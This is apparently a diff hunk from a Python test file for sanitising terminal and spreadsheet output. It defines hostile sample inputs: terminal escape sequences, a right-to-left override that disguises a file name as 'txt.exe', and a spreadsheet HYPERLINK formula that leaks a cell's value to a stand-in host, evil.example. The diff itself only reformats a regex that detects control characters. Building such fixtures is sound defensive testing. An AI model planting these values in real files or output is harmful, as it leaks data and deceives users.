@@ -35,7 +35,9 @@ CSI_C1 = "\x9b31m"  # a one-byte CSI, which some terminals obey in UTF-8 too
 BIDI = "\u202eexe.txt"  # reads "txt.exe"
 EVIL = f"{CLEAR_SCREEN}{RETITLE}{CSI_C1}\x00\x7f\u2028{BIDI}"
 # what a terminal would obey: C0 (but the line breaks we print ourselves), DEL, C1, bidi
-RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+RAW_CONTROL = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
+)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'
 
 
